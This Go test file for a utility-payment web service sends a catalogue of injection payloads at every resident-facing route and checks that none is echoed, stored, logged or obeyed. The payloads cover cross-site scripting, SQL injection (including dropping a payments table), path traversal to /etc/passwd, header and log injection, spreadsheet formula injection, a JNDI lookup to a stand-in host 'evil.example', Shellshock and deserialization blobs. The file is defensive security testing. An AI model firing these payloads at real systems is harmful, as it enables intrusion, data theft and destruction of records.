package app

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"clearwell/internal/city"
	"clearwell/internal/db"
	"clearwell/internal/web/resident"
	"clearwell/internal/web/resident/view"
)

// sting is in every payload, so that it is recognised wherever it turns up.
const sting = "zq9x"

// payloads are values with which something else than this program would be made
// to run, to read, to write or to fall over.
func payloads() map[string]string {
	return map[string]string{
		"markup":                   `"><script>alert("zq9x")</script>`,
		"an attribute":             `zq9x" onfocus="alert(1)" autofocus x="`,
		"an attribute, single":     `zq9x' onfocus='alert(1)' x='`,
		"a picture":                `<img src=x onerror=alert('zq9x')>`,
		"SVG":                      `<svg/onload=alert('zq9x')>`,
		"an entity":                `&lt;zq9x&gt;<b>"`,
		"a script's address":       `javascript:alert("zq9x")`,
		"a template":               `{{.zq9x}}${7*7}<%= 7*7 %>#{7*7}[[${7*7}]]`,
		"SQL, quoted":              `zq9x' or '1'='1`,
		"SQL, another statement":   `zq9x'; drop table payments; --`,
		"SQL, a union":             `zq9x' union select number, name from utility_accounts --`,
		"SQL, a pause":             `zq9x'; select pg_sleep(30); --`,
		"SQL, a number":            `1 or 1=1 -- zq9x`,
		"NUL":                      "zq9x\x00'\"<",
		"no UTF-8":                 "zq9x\xff\xfe\xc0\xaf'<",
		"half a surrogate":         "zq9x\xed\xa0\x80<",
		"from right to left":       "zq9x\u202e<\u2066",
		"another header":           "zq9x\r\nSet-Cookie: visit=zq9x\r\nLocation: http://evil.example/\r\n\r\n<html>",
		"another line of a log":    "zq9x\nlevel=INFO msg=\"payment approved\" city=eastwell",
		"another header of a mail": "zq9x@example.com\r\nBcc: all@example.com",
		"two addresses":            `zq9x@example.com, other@example.com`,
		"a path":                   `../../../../../../etc/passwd#zq9x`,
		"a path, encoded":          `..%2f..%2f..%2fetc%2fpasswd%00zq9x`,
		"a path of Windows":        `..\..\..\windows\win.ini zq9x`,
		"a formula":                `=cmd|' /C calc'!A0 zq9x`,
		"a formula that reads":     `@SUM(1+1)*HYPERLINK("http://evil.example/?zq9x")`,
		"a look-up":                `${jndi:ldap://evil.example/zq9x}`,
		"a shell":                  "() { :;}; echo zq9x; `id` $(id) | id",
		"an expression":            `%{(#zq9x='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`,
		"a class":                  `class.module.classLoader.resources.context.parent.pipeline.first.pattern=zq9x`,
		"a prototype":              `{"__proto__":{"zq9x":"<"}}`,
		"an object of PHP":         `O:8:"stdClass":1:{s:4:"zq9x";s:1:"<";}`,
		"an object of .NET":        `AAEAAAD/////AQAAAAAAAAAMAgAAAA zq9x`,
		"an object of Java":        "\xac\xed\x00\x05sr\x00\x11java.util.HashMap zq9x<",
		"an entity of XML":         `<?xml version="1.0"?><!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]><zq9x>&x;</zq9x>`,
		"a filter of LDAP":         `zq9x*)(uid=*))(|(uid=*`,
		"verbs":                    `zq9x %s%s%s%n%x%!d(MISSING)<`,
		"a long word":              "zq9x<" + strings.Repeat("a", 1500),
		"a large number":           `9e999999999 zq9x`,
		"less than nothing":        `-1.00 zq9x`,
		"no number":                `NaN zq9x`,
	}
}

// kinds are bodies that are no form, which some servers decode by what they say
// they are.
func kinds() map[string]string {
	return map[string]string{
		"application/json":                     `{"utility_account":"<zq9x>","@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/zq9x"}`,
		"application/xml":                      payloads()["an entity of XML"],
		"text/xml; charset=utf-7":              "+ADw-zq9x+AD4-",
		"application/x-java-serialized-object": payloads()["an object of Java"],
		"application/x-yaml":                   "!!javax.script.ScriptEngineManager [zq9x: \"<\"]",
		"application/vnd.php.serialized":       payloads()["an object of PHP"],
		"multipart/form-data; boundary=zq9x":   "--zq9x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.jsp\"\r\n\r\n<% zq9x %>\r\n--zq9x--\r\n",
		"text/plain":                           "utility_account=<zq9x>",
		"":                                     "utility_account=<zq9x>",
		"<zq9x>":                               "utility_account=<zq9x>",
		"application/x-www-form-urlencoded; charset=utf-16": "utility_account=%zz<zq9x>&%",
	}
}

// Every payload, at every address of the residents' door, in each field of its
// form, its query, its path, its headers and its cookies: nothing breaks, nothing
// comes back as markup or in a header, nothing is paid, and nothing of it is
// stored or logged, but for what is remembered of a form until it is right.
func TestPayloadsDoNothingAnywhere(t *testing.T) {
	each(t, func(c *cities) {
		before, reached := c.count("payments")+c.count("ledger_entries"), map[int]int{}
		for _, pattern := range sortedKeys(resident.New(resident.Config{}).Routes()) {
			method, paths, _ := c.sampled(pattern, c.east)
			for name, payload := range payloads() {
				for place, r := range c.injected(method, paths[len(paths)-1], payload) {
					reached[c.strike(fmt.Sprintf("%s, %s, %s", pattern, name, place), payload, r).status]++
				}
			}
			for kind, body := range kinds() {
				r := c.bearing(http.MethodPost, paths[0], body)
				r.Header["Content-Type"] = []string{kind}
				if got := c.strike(pattern+", as "+kind, body, r); got.status < 400 {
					c.Errorf("%s: a body of %q is taken with %d", pattern, kind, got.status)
				}
			}
		}
		if after := c.count("payments") + c.count("ledger_entries"); after != before {
			c.Errorf("payments and entries are %d and were %d", after, before)
		}
		for _, left := range c.left() {
			c.Error(left)
		}
		for _, status := range []int{http.StatusOK, http.StatusSeeOther, http.StatusNotFound, http.StatusConflict} {
			if reached[status] < 100 {
				c.Errorf("most was turned away before anybody looked at it: %v", reached)
			}
		}
		c.Logf("answers: %v", reached)
	})
}

// fields are all that residents' forms have, and one that none has.
func fields() []string {
	return []string{
		view.FieldUtilityAccount, view.FieldAmount, view.FieldOtherAmount, view.FieldEmail, view.FieldCardToken, view.FieldHow, view.FieldOnPurpose,
		view.FieldAsked, "consent", "lang", string(city.HouseNumber), string(city.Name), string(city.ZIP), string(city.LastPayment), "another",
	}
}

// injected is every place of a request that a payload fits into.
func (c *cities) injected(method, path, payload string) map[string]*http.Request {
	all := map[string]*http.Request{
		"in the path":       c.bearing(method, path[:strings.LastIndexByte(path, '/')+1]+url.PathEscape(payload), ""),
		"in the query":      c.bearing(method, path+"?lang="+url.QueryEscape(payload), ""),
		"as a query":        c.bearing(method, path+"?"+url.QueryEscape(payload), ""),
		"in the headers":    c.bearing(method, path, ""),
		"in the cookies":    c.bearing(method, path, ""),
		"as a field's name": c.bearing(method, path, url.QueryEscape(payload)+"=1"),
	}
	line := strings.NewReplacer("\r", " ", "\n", " ", "\x00", " ").Replace(payload) // what a server lets in
	for _, name := range []string{"User-Agent", "Referer", "Accept-Language", "X-Forwarded-For", "X-Forwarded-Host", "X-Original-Url", "Forwarded", "If-None-Match"} {
		all["in the headers"].Header.Set(name, line)
	}
	all["in the cookies"].Header.Set("Cookie", "visit="+line+"; lang="+line+"; "+line)
	if method != http.MethodPost {
		return all
	}
	for _, field := range fields() {
		form := url.Values{field: {payload}}
		switch field {
		case view.FieldUtilityAccount:
			form.Set(string(city.HouseNumber), "12")
		case view.FieldOtherAmount:
			form.Set(view.FieldAmount, string(view.Other))
		case string(city.HouseNumber), string(city.Name), string(city.ZIP), string(city.LastPayment):
			form.Set(view.FieldUtilityAccount, display(8))
		}
		all["in "+field] = c.bearing(method, path, form.Encode())
	}
	return all
}

// bearing is a request of the resident who has paid in the east.
func (c *cities) bearing(method, path, body string) *http.Request {
	r := httptest.NewRequestWithContext(c.Context(), method, "http://"+c.east.host+path, strings.NewReader(body))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for name, value := range c.east.visitor.cookies {
		r.AddCookie(&http.Cookie{Name: name, Value: value})
	}
	return r
}

// strike sends a request, and judges the answer.
func (c *cities) strike(what, payload string, r *http.Request) answered {
	c.Helper()
	c.clk.Advance(50 * time.Millisecond) // what all of the town may do fills up again
	got := c.serve(r)
	for _, wound := range wounds(payload, got) {
		c.Errorf("%s: %s", what, wound)
	}
	return got
}

// wounds says what an answer should not be like.
func wounds(payload string, got answered) []string {
	var all []string
	if got.status >= http.StatusInternalServerError {
		all = append(all, fmt.Sprintf("status %d", got.status))
	}
	if strings.ContainsAny(payload, `<>"'`) && strings.Contains(got.body, payload) {
		all = append(all, "comes back as it was sent")
	}
	if strings.Contains(got.body, "<"+sting) || strings.Contains(got.body, sting+`"`) && strings.Contains(payload, sting+`"`) {
		all = append(all, "comes back as markup")
	}
	for name, values := range got.header {
		if strings.Contains(name+strings.Join(values, " "), sting) {
			all = append(all, "is in the header "+name)
		}
	}
	if strings.Contains(got.body, "root:x:0") || strings.Contains(got.header.Get("Location"), "evil.example") {
		all = append(all, "was obeyed")
	}
	return all
}

func (c *cities) count(table string) int {
	c.Helper()
	n := 0
	for _, r := range c.rows() {
		if r.table == table {
			n++
		}
	}
	return n
}

// left is where a payload was left: a row of any table but what is remembered of
// a visit, or the log.
func (c *cities) left() []string {
	c.Helper()
	var all []string
	for _, r := range c.rows() {
		for column, cell := range r.cells {
			text, bytes := fmt.Sprint(cell), []byte(nil)
			if bytes, _ = cell.([]byte); bytes != nil {
				text = string(bytes)
			}
			if r.table != "sessions" && strings.Contains(text, sting) {
				all = append(all, fmt.Sprintf("%s.%s keeps %.100q", r.table, column, text))
			}
		}
	}
	if log := c.said.String(); strings.Contains(log, sting) {
		all = append(all, "the log keeps it: "+log[max(0, strings.Index(log, sting)-100):][:100])
	}
	slices.Sort(all)
	return all
}

// The judgement above hears a door that has lost its controls: one that repeats
// what was sent as markup or in a header, falls over, sends on, stores and logs.
func TestPayloadsAreHeardWhereNothingStopsThem(t *testing.T) {
	each(t, func(c *cities) {
		guarded := c.doors
		defer func() { c.doors = guarded }()
		for want, does := range map[string]func(w http.ResponseWriter, sent string){
			"comes back as it was sent": func(w http.ResponseWriter, sent string) { fmt.Fprintf(w, "<p>%s</p>", sent) },
			"is in the header X-Echo":   func(w http.ResponseWriter, sent string) { w.Header().Set("X-Echo", sent) },
			"status 500":                func(w http.ResponseWriter, _ string) { w.WriteHeader(http.StatusInternalServerError) },
			"was obeyed":                func(w http.ResponseWriter, _ string) { w.Header().Set("Location", "http://evil.example/") },
		} {
			c.doors = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { does(w, r.PostFormValue("name")) })
			payload := payloads()["markup"]
			got := c.serve(c.bearing(http.MethodPost, "/", url.Values{"name": {payload}}.Encode()))
			if heard := wounds(payload, got); !slices.Contains(heard, want) {
				t.Errorf("a door that %s is heard as %v", want, heard)
			}
		}
		c.log.Info("said", "what", sting)
		c.must(c.db.Write(c.Context(), c.east.slug, func(_ context.Context, tx *db.Tx) error {
			tx.Exec("create table stung (city_id text not null, what text not null)")
			return nil
		}))
		c.must(c.db.Write(c.Context(), c.east.slug, func(_ context.Context, tx *db.Tx) error {
			tx.Exec("insert into stung (city_id, what) values ($1, $2)", tx.City(), sting)
			return nil
		}))
		if left := c.left(); len(left) != 2 {
			t.Errorf("what is stored and logged is heard as %v", left)
		}
	})
}
